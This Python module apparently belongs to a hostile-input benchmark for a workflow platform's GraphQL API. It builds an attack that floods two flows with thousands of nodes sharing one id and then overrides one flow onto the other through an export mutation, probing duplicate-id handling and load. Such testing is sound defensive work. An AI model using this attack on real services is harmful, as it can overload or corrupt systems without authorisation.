"""Attacks by what is done with large flows: overriding them."""

from collections.abc import Iterable

import httpx

from scripts.benchmarks.hostile.demo import CODE, Attack, Demo, Json, graph

EXPORT = "exportFlow(input: { flowId: $source, destination: { overrideFlowId: $onto } }) { errors { message } }"


def workspace_with_agent(demo: Demo) -> tuple[str, str]:
    """The ids of both."""
    query = "query($ids: [ID!]!) { nodes(ids: $ids) { ... on Workspace { id agents { nodes { id } } } } }"
    found = demo.ask(query, ids=demo.workspaces)["nodes"]
    return next((each["id"], agent["id"]) for each in found for agent in each["agents"]["nodes"])


def one_id(number: int, command: str, **more: Json) -> Iterable[Json]:
    return ({"id": "same", "command": command, **more} for _ in range(number))


def repeated_ids(demo: Demo) -> httpx.Request:
    workspace, agent = workspace_with_agent(demo)
    onto, _ = demo.create(graph(one_id(9_000, CODE, vpn_agent_id=agent)), workspace)
    source, _ = demo.create(graph(one_id(17_000, "nobody/nothing:run")), workspace)
    return demo.request(f"mutation($source: ID!, $onto: ID!) {{ {EXPORT} }}", source=source, onto=onto)


EXPORTS = (Attack("override, equal ids in both flows", repeated_ids),)
